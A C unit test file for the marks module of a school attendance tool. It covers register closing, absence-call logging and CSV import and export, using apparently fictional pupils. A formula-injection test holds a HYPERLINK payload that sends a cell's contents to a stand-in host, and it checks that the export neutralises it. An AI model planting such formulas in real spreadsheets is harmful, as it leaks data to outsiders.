    assert_int_equal(marks_close_due(f->u.s, WED, AT(16, 0), CLOSE_AM, CLOSE_PM, both, &n), AP_OK);
    assert_int_equal(n, 2);
    assert_int_equal(both[0].session, SESSION_AM);
    assert_int_equal(both[0].marked, 1); /* P_CLA */
    assert_int_equal(both[1].session, SESSION_PM);
    assert_int_equal(both[1].marked, 1); /* P_FULL */
    assert_int_equal(marks_get(f->u.s, P_FULL, WED, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "/");
}

static void test_register_close_not_a_school_day(void **state)
{
    struct fixture *f = *state;
    /* A weekend: nothing, not even a record. */
    assert_int_equal(close_due(f->u.s, SAT, AT(16, 0), NULL), 0);
    assert_int_equal(close_due(f->u.s, SAT + 1, AT(16, 0), NULL), 0);
    /* A closure day inside the term. */
    unit_exec(f->u.s, "INSERT INTO closure (day, reason) VALUES ('2026-11-26', 'INSET day')");
    assert_int_equal(close_due(f->u.s, THU, AT(16, 0), NULL), 0);
    assert_int_equal(mark_count(f->u.s), 0);
    assert_int_equal(closures(f->u.s), 0);
    /* The day either side is a school day and closes. */
    assert_int_equal(close_due(f->u.s, FRI, AT(16, 0), NULL), 2);
}

static void test_register_close_once_after_ctrl_r(void **state)
{
    struct fixture *f = *state;
    /* Closed by hand before its time: the rule does not close it again,
     * even when a pupil's mark is cleared meanwhile. */
    int marked = 0;
    assert_int_equal(marks_close_register(f->u.s, TUE, SESSION_AM, &marked), AP_OK);
    assert_int_equal(marked, 1); /* P_FULL; P_CLA is not timetabled on Tuesday */
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM register_close WHERE how = 'manual'"), 1);
    assert_int_equal(close_due(f->u.s, TUE, AT(9, 30), NULL), 0);
    assert_int_equal(closures(f->u.s), 1);
    /* Ctrl-R after the rule closed it adds no second record. */
    assert_int_equal(close_due(f->u.s, MON, AT(9, 30), NULL), 1);
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_AM, &marked), AP_OK);
    assert_int_equal(marked, 0);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM register_close WHERE day = '2026-11-23'"), 1);
    bool closed = false;
    assert_int_equal(marks_register_closed(f->u.s, MON, SESSION_AM, &closed), AP_OK);
    assert_true(closed);
    assert_int_equal(marks_register_closed(f->u.s, MON, SESSION_PM, &closed), AP_OK);
    assert_false(closed);
}

static void test_register_close_viewer(void **state)
{
    struct fixture *f = *state;
    /* A viewer's apterm closes nothing and records nothing; an officer's does. */
    struct store *vic = open_as(f, "vic", "viewer");
    assert_int_equal(close_due(vic, MON, AT(16, 0), NULL), 0);
    store_close(vic);
    assert_int_equal(mark_count(f->u.s), 0);
    assert_int_equal(closures(f->u.s), 0);
    struct store *bob = open_as(f, "bob", "officer");
    assert_int_equal(close_due(bob, MON, AT(16, 0), NULL), 2);
    store_close(bob);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM register_close WHERE closed_by = 'bob'"), 2);
}

/* The process's side (src/register.h): today and now from APTERM_TODAY and
 * APTERM_NOW, the close times from apterm.ini, and the store asked once per
 * session per day. (date_now_secs reads APTERM_NOW at its first call in the
 * process: this is the only test that calls it.) */
static void test_register_close_due_asks_once(void **state)
{
    struct fixture *f = *state;
    assert_int_equal(setenv("APTERM_TODAY", "2026-11-23", 1), 0);
    assert_int_equal(setenv("APTERM_NOW", "10:00", 1), 0);
    struct apterm_config cfg;
    config_default(&cfg);
    struct register_closed out[2];
    int n = -1;
    assert_int_equal(register_close_due(f->u.s, &cfg, out, &n), AP_OK);
    assert_int_equal(n, 1);
    assert_int_equal(out[0].session, SESSION_AM);
    assert_int_equal(out[0].marked, 2);
    char text[120];
    register_closed_text(&out[0], &cfg, text, sizeof text);
    assert_string_equal(text, "AM register closed at 09:30: 2 unmarked pupils got N");
    /* The record removed behind its back: this process does not ask again. */
    unit_exec(f->u.s, "DELETE FROM register_close");
    assert_int_equal(register_close_due(f->u.s, &cfg, out, &n), AP_OK);
    assert_int_equal(n, 0);
    assert_int_equal(closures(f->u.s), 0);
    struct register_closed one = {.session = SESSION_PM, .marked = 1}, none = {.session = SESSION_PM, .marked = 0};
    register_closed_text(&one, &cfg, text, sizeof text);
    assert_string_equal(text, "PM register closed at 13:45: 1 unmarked pupil got N");
    register_closed_text(&none, &cfg, text, sizeof text);
    assert_string_equal(text, "PM register closed at 13:45: every expected pupil had a mark");
    unsetenv("APTERM_TODAY");
    unsetenv("APTERM_NOW");
}

/* ---- first-day absence calls ---- */

static const struct call_entry *entry_for(const struct call_entry *e, size_t n, int64_t pupil)
{
    for (size_t i = 0; i < n; i++)
        if (e[i].pupil_id == pupil)
            return &e[i];
    return NULL;
}

static void test_calls_list(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'O', SOURCE_PHONE, 0, &m), AP_OK);
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_AM, NULL), AP_OK); /* P_CLA gets N */
    struct call_entry *e = NULL;
    size_t n = 0;
    assert_int_equal(calls_list(f->u.s, MON, &e, &n), AP_OK);
    assert_int_equal(n, 2);
    /* Name order: Evans before Jones. */
    assert_int_equal(e[0].pupil_id, P_CLA);
    assert_int_equal(e[1].pupil_id, P_FULL);
    const struct call_entry *cla = entry_for(e, n, P_CLA), *full = entry_for(e, n, P_FULL);
    assert_string_equal(cla->pupil_name, "Llŷr Evans");
    assert_string_equal(cla->am_code, "N");
    assert_string_equal(cla->pm_code, "");
    assert_int_equal(cla->am_version, 1);
    assert_string_equal(cla->provider_name, "Tiwtora Tutors");
    assert_true(cla->escalate);
    assert_contains(cla->escalate_why, "looked after");
    assert_int_equal(cla->ncontacts, 2);
    assert_string_equal(cla->contacts[0].name, "Cerys Evans"); /* priority 1 first */
    assert_string_equal(cla->contacts[0].phone, "01234 111111");
    assert_string_equal(cla->contacts[1].relationship, "Nain");
    assert_int_equal(cla->attempts, 0);
    assert_false(cla->resolved);
    assert_string_equal(cla->last_call_at, "");
    assert_false(full->escalate);
    assert_string_equal(full->am_code, "O");
    assert_string_equal(full->provider_name, "Cwm Farm");
    free(e);

    /* A safeguarding concern on file marks a pupil for escalation; an incident does not. */
    unit_sql(f->u.s, "INSERT INTO concern (pupil_id, concern_date, kind, summary) VALUES (%d, '2026-10-01', 'incident', 'x')",
        P_FULL);
    assert_int_equal(calls_list(f->u.s, MON, &e, &n), AP_OK);
    assert_false(entry_for(e, n, P_FULL)->escalate);
    free(e);
    unit_sql(f->u.s, "INSERT INTO concern (pupil_id, concern_date, kind, summary) VALUES (%d, '2026-11-02', 'safeguarding', 'y')",
        P_FULL);
    assert_int_equal(calls_list(f->u.s, MON, &e, &n), AP_OK);
    assert_true(entry_for(e, n, P_FULL)->escalate);
    assert_contains(entry_for(e, n, P_FULL)->escalate_why, "safeguarding");
    free(e);

    /* A call that reaches nobody: an attempt, still unresolved. */
    struct call_input call = {.pupil_id = P_CLA, .day = MON, .contact_id = 0, .person = "Cerys Evans",
                              .reached = false, .outcome = "no answer; voicemail left"};
    assert_int_equal(calls_log(f->u.s, &call), AP_OK);
    assert_int_equal(calls_list(f->u.s, MON, &e, &n), AP_OK);
    cla = entry_for(e, n, P_CLA);
    assert_int_equal(cla->attempts, 1);
    assert_false(cla->resolved);
    assert_int_equal(strlen(cla->last_call_at), 19);
    assert_string_equal(cla->last_outcome, "no answer; voicemail left");
    free(e);
    /* Another day: nobody on the list. */
    assert_int_equal(calls_list(f->u.s, TUE, &e, &n), AP_OK);
    assert_int_equal(n, 0);
    /* A viewer reads the list too. */
    struct store *vic = open_as(f, "vic", "viewer");
    assert_int_equal(calls_list(vic, MON, &e, &n), AP_OK);
    assert_int_equal(n, 2);
    assert_true(entry_for(e, n, P_FULL)->escalate);
    free(e);
    store_close(vic);
}

static void test_calls_log_code_replaces_n(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_AM, NULL), AP_OK); /* P_FULL, P_CLA: N */
    int64_t contact = unit_int(f->u.s, "SELECT id FROM contact WHERE pupil_id = %d AND priority = 1", P_CLA);
    struct call_input call = {.pupil_id = P_CLA, .day = MON, .contact_id = contact, .reached = true,
                              .outcome = "Cerys: Llŷr has a temperature", .code = 'I', .session = SESSION_AM};
    assert_int_equal(calls_log(f->u.s, &call), AP_OK);
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "I");
    assert_int_equal(m.source, SOURCE_CALL);
    assert_int_equal(m.version, 2);
    assert_string_equal(m.note, "Cerys: Llŷr has a temperature");
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM absence_call WHERE pupil_id = %d AND resulting_code = 'I' "
                                     "AND reached = 1 AND called_by = 'tester' AND person_reached = 'Cerys Evans'",
                               P_CLA),
                     1);
    /* Authorised now: off the list. */
    struct call_entry *e = NULL;
    size_t n = 0;
    assert_int_equal(calls_list(f->u.s, MON, &e, &n), AP_OK);
    assert_null(entry_for(e, n, P_CLA));
    free(e);

    /* A code other than N is never replaced by a call: refused, nothing saved. */
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'O', SOURCE_OFFICER, m.version, &m), AP_OK);
    int64_t calls = unit_int(f->u.s, "SELECT count(*) FROM absence_call");
    call = (struct call_input){.pupil_id = P_FULL, .day = MON, .reached = true, .person = "Mam",
                               .outcome = "ill", .code = 'I', .session = SESSION_AM};
    assert_int_equal(calls_log(f->u.s, &call), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "marked O");
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM absence_call"), calls);
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "O");
    assert_int_equal(m.version, 2);

    /* Both sessions: the AM N and the PM not yet marked, as P_FULL is timetabled both. */
    assert_int_equal(marks_close_register(f->u.s, TUE, SESSION_AM, NULL), AP_OK);
    call = (struct call_input){.pupil_id = P_FULL, .day = TUE, .reached = true, .person = "Mam",
                               .outcome = "dentist all day", .code = 'M', .both_sessions = true};
    assert_int_equal(calls_log(f->u.s, &call), AP_OK);
    assert_int_equal(marks_get(f->u.s, P_FULL, TUE, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "M");
    assert_int_equal(marks_get(f->u.s, P_FULL, TUE, SESSION_PM, &m), AP_OK);
    assert_string_equal(m.code, "M");
    /* The pupil's calls, newest first. */
    call = (struct call_input){.pupil_id = P_FULL, .day = MON, .reached = false, .person = "Dad",
                               .outcome = "no answer"};
    assert_int_equal(calls_log(f->u.s, &call), AP_OK);
    struct call_record *h = NULL;
    assert_int_equal(calls_history(f->u.s, P_FULL, 0, &h, &n), AP_OK);
    assert_int_equal(n, 2);
    assert_int_equal(h[0].day, TUE);
    assert_string_equal(h[0].resulting_code, "M");
    assert_true(h[0].reached);
    assert_string_equal(h[0].called_by, "tester");
    assert_int_equal(h[1].day, MON);
    assert_string_equal(h[1].outcome, "no answer");
    assert_string_equal(h[1].resulting_code, "");
    free(h);
    assert_int_equal(calls_history(f->u.s, P_FULL, 1, &h, &n), AP_OK);
    assert_int_equal(n, 1);
    free(h);
    /* A contact of another pupil is refused. */
    call = (struct call_input){.pupil_id = P_FULL, .day = TUE, .contact_id = contact, .outcome = "x"};
    assert_int_equal(calls_log(f->u.s, &call), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "contact");
}

/* ---- files ---- */

static void test_import_all_or_nothing(void **state)
{
    struct fixture *f = *state;
    char text[2048];
    int count = -1;
    /* Line 3 is PREFIX, the UPN (when with_upn), SUFFIX. */
    struct {
        const char *prefix;
        bool with_upn;
        const char *suffix, *field;
    } bad[] = {
        {"2026-11-23,noon,", true, ",/", "field 2 (session)"},
        {"2026-11-23,am,A123", false, ",/", "field 3 (upn)"},
        {"2026-11-23,am,", false, ",/", "field 3 (upn)"},
        {"2026-11-23,am,A820200105099", false, ",/", "field 3 (upn)"},
        {"2026-11-23,am,", true, ",Q", "field 4 (code)"},
        {"2026-11-23,am,", true, ",//", "field 4 (code)"},
        {"2026-11-31,am,", true, ",/", "field 1 (date)"},
        {"23/11/2026,am,", true, ",/", "field 1 (date)"},
        {"2026-11-28,am,", true, ",/", "field 1 (date)"},
        {"2026-11-23,am,", true, "", "expected 4 fields"},
        {"2026-11-23,am,", true, ",/,extra", "expected 4 fields"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        snprintf(text, sizeof text,
                 "date,session,upn,code\n"
                 "2026-11-23,am,%s,/\n"
                 "%s%s%s\n"
                 "2026-11-24,pm,%s,B\n",
                 f->upn[P_FULL], bad[i].prefix, bad[i].with_upn ? f->upn[P_CLA] : "", bad[i].suffix,
                 f->upn[P_FULL]);
        assert_int_equal(marks_import_csv(f->u.s, "marks.csv", text, false, &count), AP_ERR_INVALID);
        assert_contains(ap_error_detail(), "marks.csv line 3");
        assert_contains(ap_error_detail(), bad[i].field);
        assert_int_equal(count, 0);
        assert_int_equal(mark_count(f->u.s), 0);
    }
    /* A retired code on line 3, named with its date. */
    unit_exec(f->u.s, "UPDATE attendance_code SET valid_to = '2024-08-31' WHERE code_set = 'wales' AND code = 'H'");
    snprintf(text, sizeof text, "date,session,upn,code\n2026-11-23,am,%s,/\n2026-11-23,pm,%s,H\n", f->upn[P_FULL],
             f->upn[P_FULL]);
    assert_int_equal(marks_import_csv(f->u.s, "marks.csv", text, false, &count), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "line 3");
    assert_contains(ap_error_detail(), "H was retired on 2024-08-31");
    /* The same mark twice. */
    snprintf(text, sizeof text, "date,session,upn,code\n2026-11-23,am,%s,/\n2026-11-23,AM,%s,B\n", f->upn[P_FULL],
             f->upn[P_FULL]);
    assert_int_equal(marks_import_csv(f->u.s, "marks.csv", text, false, &count), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "line 3: the same pupil, date and session as line 2");
    /* An unknown column in the header. */
    assert_int_equal(marks_import_csv(f->u.s, "marks.csv", "date,session,upn,code,colour\n", false, &count),
                     AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "colour");
    assert_int_equal(marks_import_csv(f->u.s, "marks.csv", "", false, &count), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "empty");
    assert_int_equal(mark_count(f->u.s), 0);

    /* A good file: every mark, in one go, with notes, sources and a lower-case code. */
    snprintf(text, sizeof text,
             "date,session,upn,code,note,source\n"
             "# the morning's reports\n"
             "2026-11-23,am,%s,/,,phone\n"
             "2026-11-23,pm,%s,/,\"late bus, arrived 13:40\",email\n"
             "2026-11-23,am,%s,i,,\n",
             f->upn[P_FULL], f->upn[P_FULL], f->upn[P_CLA]);
    assert_int_equal(marks_import_csv(f->u.s, "marks.csv", text, false, &count), AP_OK);
    assert_int_equal(count, 3);
    struct mark m;
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_PM, &m), AP_OK);
    assert_string_equal(m.code, "\\");
    assert_string_equal(m.note, "late bus, arrived 13:40");
    assert_int_equal(m.source, SOURCE_EMAIL);
    assert_int_equal(m.provider_id, 1);
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "I");
    assert_int_equal(m.source, SOURCE_IMPORT);

    /* Marks already there are refused, naming who, unless replace. */
    snprintf(text, sizeof text, "date,session,upn,code\n2026-11-24,am,%s,B\n2026-11-23,am,%s,O\n", f->upn[P_FULL],
             f->upn[P_FULL]);
    assert_int_equal(marks_import_csv(f->u.s, "more.csv", text, false, &count), AP_ERR_CONFLICT);
    assert_contains(ap_error_detail(), "more.csv line 3");
    assert_contains(ap_error_detail(), "tester");
    assert_int_equal(mark_count(f->u.s), 3);
    assert_int_equal(marks_import_csv(f->u.s, "more.csv", text, true, &count), AP_OK);
    assert_int_equal(count, 2);
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "O");
    assert_string_equal(m.reported_code, "/"); /* the provider rang / in */
    assert_int_equal(m.version, 2);
    assert_int_equal(mark_count(f->u.s), 4);
}

static void collect(void *ctx, const struct mark *m)
{
    struct mark **next = ctx;
    **next = *m;
    (*next)++;
}

/* marks_export_csv of the days from..to into memory, which must come to
 * want marks; returns the text (to free). */
static char *exported(struct store *s, int from, int to, int want)
{
    char *text = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&text, &len);
    assert_non_null(out);
    int count = -1;
    assert_int_equal(marks_export_csv(s, from, to, out, &count), AP_OK);
    assert_int_equal(fclose(out), 0);
    assert_int_equal(count, want);
    return text;
}

/* The export walks pupil by pupil in surname order, case-insensitive ("ffoulkes"
 * after Evans and before Jones; by bytes it would come last), each
 * pupil's marks by date then session, whatever order they were recorded in. */
static void test_export_order(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    char upn7[14];
    unit_upn(upn7, "820200105", 7);
    unit_exec(f->u.s,
        "INSERT INTO pupil (id, upn, legal_forename, legal_surname, dob, home_school_id, roll_status, cohort) "
        "VALUES (7, '%s', 'Elen', 'ffoulkes', '2012-03-14', 1, 'dual_prs', 'pru_plus')",
        upn7);
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_PM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, 7, TUE, SESSION_PM, 'N', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_CLA, TUE, SESSION_PM, 'N', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_CLA, MON, SESSION_AM, 'N', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_CLA, WED, SESSION_AM, 'N', SOURCE_OFFICER, 0, &m), AP_OK);

    char *text = exported(f->u.s, MON, TUE, 6); /* Evans's Wednesday is outside the range */
    /* The date, session and UPN of each line, in the file's order. */
    char got[512] = "", *line = strchr(text, '\n');
    while (line && line[1]) {
        line++;
        const char *comma = line;
        for (int k = 0; k < 3 && comma; k++)
            comma = strchr(comma + 1, ',');
        assert_non_null(comma);
        strncat(got, line, (size_t)(comma - line));
        strcat(got, ";");
        line = strchr(line, '\n');
    }
    char expect[512];
    snprintf(expect, sizeof expect,
             "2026-11-23,am,%s;2026-11-24,pm,%s;2026-11-24,pm,%s;2026-11-23,am,%s;2026-11-23,pm,%s;2026-11-24,am,%s;",
             f->upn[P_CLA], f->upn[P_CLA], upn7, f->upn[P_FULL], f->upn[P_FULL], f->upn[P_FULL]);
    assert_string_equal(got, expect);
    free(text);
}

static void test_export_round_trip(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    struct mark_input in = {.pupil_id = P_FULL, .day = MON, .session = SESSION_AM, .code = 'B',
                            .source = SOURCE_PHONE, .note = "at the \"Cwm\" farm, then home"};
    assert_int_equal(marks_set(f->u.s, &in, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'I', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_PM, '\\', SOURCE_PORTAL, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_CLA, MON, SESSION_AM, 'N', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_CLA, WED, SESSION_AM, '/', SOURCE_EMAIL, 0, &m), AP_OK);

    char *text = exported(f->u.s, MON, TUE, 3); /* Wednesday is outside the range */
    int count = -1;
    assert_true(strncmp(text, "\xEF\xBB\xBF" "date,session,upn,surname,forename,code,meaning,reported_code,provider,"
                              "source,note,recorded_by,recorded_at\n",
                        strlen("\xEF\xBB\xBF" "date,session,upn,surname,forename,code,meaning,reported_code,provider,"
                               "source,note,recorded_by,recorded_at\n")) == 0);
    char expect[512];
    /* Monday AM: Evans before Jones; the note quoted; the provider's B beside the officer's I. */
    snprintf(expect, sizeof expect, "\n2026-11-23,am,%s,Evans,Llŷr,N,No reason yet provided for the absence,,Tiwtora Tutors,officer,,tester,",
             f->upn[P_CLA]);
    assert_contains(text, expect);
    snprintf(expect, sizeof expect,
             "\n2026-11-23,am,%s,Jones,Siân,I,Illness (not a medical or dental appointment),B,Cwm Farm,officer,"
             "\"at the \"\"Cwm\"\" farm, then home\",tester,",
             f->upn[P_FULL]);
    assert_contains(text, expect);
    assert_true(strstr(text, "Evans,Llŷr,N") < strstr(text, "Jones,Siân,I"));
    assert_null(strstr(text, "2026-11-25"));

    /* Back in: clear the marks, import the export, and the marks are as they were. */
    struct mark before[8], after[8], *next = before;
    assert_int_equal(marks_range(f->u.s, 0, MON, TUE, collect, &next), AP_OK);
    assert_int_equal(next - before, 3);
    unit_exec(f->u.s, "DELETE FROM attendance_mark WHERE day <= %d", TUE);
    assert_int_equal(marks_import_csv(f->u.s, "export.csv", text, false, &count), AP_OK);
    assert_int_equal(count, 3);
    next = after;
    assert_int_equal(marks_range(f->u.s, 0, MON, TUE, collect, &next), AP_OK);
    assert_int_equal(next - after, 3);
    for (int i = 0; i < 3; i++) {
        assert_int_equal(after[i].pupil_id, before[i].pupil_id);
        assert_int_equal(after[i].day, before[i].day);
        assert_int_equal(after[i].session, before[i].session);
        assert_string_equal(after[i].code, before[i].code);
        assert_string_equal(after[i].note, before[i].note);
        assert_int_equal(after[i].source, before[i].source);
        assert_int_equal(after[i].provider_id, before[i].provider_id);
    }
    free(text);

    /* A range that ends before it starts. */
    size_t len = 0;
    FILE *out = open_memstream(&text, &len);
    assert_int_equal(marks_export_csv(f->u.s, TUE, MON, out, &count), AP_ERR_INVALID);
    fclose(out);
    free(text);
    /* marks_range for one pupil. */
    next = after;
    assert_int_equal(marks_range(f->u.s, P_CLA, MON, FRI, collect, &next), AP_OK);
    assert_int_equal(next - after, 2);
    assert_int_equal(after[0].day, MON);
    assert_int_equal(after[1].day, WED);
}

/* Formula injection: a note a spreadsheet would run as a formula is written
 * behind a single quote, quoted; the import reads back the note itself. At
 * each boundary: every leading character that starts a formula, one a space
 * away, a safe note, an empty one, and notes that begin with a quote. */
static void test_export_neutralises_formulas(void **state)
{
    struct fixture *f = *state;
    static const struct {
        const char *note, *written;
    } cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
        {"+44 29 2087 2087", "\"'+44 29 2087 2087\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
        {" =1+1", " =1+1"},
        {"called at 9, mum says ill", "\"called at 9, mum says ill\""},
        {"safe", "safe"},
        {"", ""},
        {"'tis the flu", "'tis the flu"},
        {"'=1+1", "\"''=1+1\""},
        {"''", "\"'''\""},
        {"'", "'"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct mark m;
        struct mark_input in = {.pupil_id = P_FULL, .day = MON, .session = SESSION_AM, .code = 'I',
                                .source = SOURCE_PHONE, .note = cases[i].note};
        unit_exec(f->u.s, "DELETE FROM attendance_mark");
        assert_int_equal(marks_set(f->u.s, &in, 0, &m), AP_OK);
        char *text = exported(f->u.s, MON, MON, 1);
        int count = -1;
        char expect[256];
        snprintf(expect, sizeof expect, ",phone,%s,tester,", cases[i].written);
        if (!strstr(text, expect))
            fail_msg("note \"%s\": expected %s in\n%s", cases[i].note, expect, text);
        unit_exec(f->u.s, "DELETE FROM attendance_mark");
        assert_int_equal(marks_import_csv(f->u.s, "export.csv", text, false, &count), AP_OK);
        assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
        assert_string_equal(m.note, cases[i].note);
        free(text);
    }

    /* Tab and carriage return, which no note may hold, in any other field. */
    static const char *const controls[] = {"\tx", "\r=1", "'\t"};
    for (size_t i = 0; i < sizeof controls / sizeof controls[0]; i++) {
        char *text = NULL;
        size_t len = 0;
        FILE *out = open_memstream(&text, &len);
        assert_non_null(out);
        assert_true(csv_write_field(out, controls[i], true));
        assert_int_equal(fclose(out), 0);
        assert_true(text[0] == '"' && text[1] == '\'');
        struct csv_reader r;
        bool got;
        csv_open(&r, "t.csv", text);
        assert_int_equal(csv_next(&r, &got), AP_OK);
        assert_true(got);
        assert_string_equal(csv_unprotect(r.field[0]), controls[i]);
        csv_close(&r);
        free(text);
    }
}

static void test_names(void **state)
{
    (void)state;
    enum session s;
    enum mark_source src;
    assert_true(session_parse("am", &s) && s == SESSION_AM);
    assert_true(session_parse("PM", &s) && s == SESSION_PM);
    assert_false(session_parse("noon", &s));
    assert_string_equal(session_name(SESSION_PM), "pm");
    assert_true(mark_source_parse("portal", &src) && src == SOURCE_PORTAL);
    assert_false(mark_source_parse("fax", &src));
    assert_string_equal(mark_source_name(SOURCE_CALL), "call");
}

/* The export's date column (date_format writes the digits by hand for
 * years 0 to 9999, snprintf beyond): each side of both ends, and the
 * padding of one-digit months and days. */
static void test_date_format(void **state)
{
    (void)state;
    static const struct {
        int y, m, d;
        const char *text;
    } cases[] = {
        {2026, 9, 7, "2026-09-07"}, {2026, 12, 31, "2026-12-31"}, {1900, 1, 1, "1900-01-01"},
        {0, 1, 1, "0000-01-01"},    {-1, 12, 31, "-001-12-31"},    {999, 10, 10, "0999-10-10"},
        {9999, 12, 31, "9999-12-31"}, {10000, 1, 1, "10000-01-0"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char buf[11];
        assert_string_equal(date_format(date_from_ymd(cases[i].y, cases[i].m, cases[i].d), buf), cases[i].text);
    }
    char buf[11] = "x";
    assert_string_equal(date_format(DATE_NONE, buf), "");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_date_format),
        UNIT_TEST(test_attendance_per_category, setup),
        UNIT_TEST(test_expected_from_timetables, setup),
        UNIT_TEST(test_expected_week, setup),
        UNIT_TEST(test_conflict_with_another_login, setup),
        UNIT_TEST(test_expected_version_zero_when_marked, setup),
        UNIT_TEST(test_clear, setup),
        UNIT_TEST(test_codes_that_cannot_be_entered, setup),
        UNIT_TEST(test_present_code_follows_the_session, setup),
        UNIT_TEST(test_reported_code_kept, setup),
        UNIT_TEST(test_register_close, setup),
        UNIT_TEST(test_register_close_boundaries, setup),
        UNIT_TEST(test_register_close_not_a_school_day, setup),
        UNIT_TEST(test_register_close_once_after_ctrl_r, setup),
        UNIT_TEST(test_register_close_viewer, setup),
        UNIT_TEST(test_register_close_due_asks_once, setup),
        UNIT_TEST(test_calls_list, setup),
        UNIT_TEST(test_calls_log_code_replaces_n, setup),
        UNIT_TEST(test_import_all_or_nothing, setup),
        UNIT_TEST(test_export_order, setup),
        UNIT_TEST(test_export_round_trip, setup),
        UNIT_TEST(test_export_neutralises_formulas, setup),
    };
    return cmocka_run_group_tests_name("marks", tests, NULL, NULL);
}
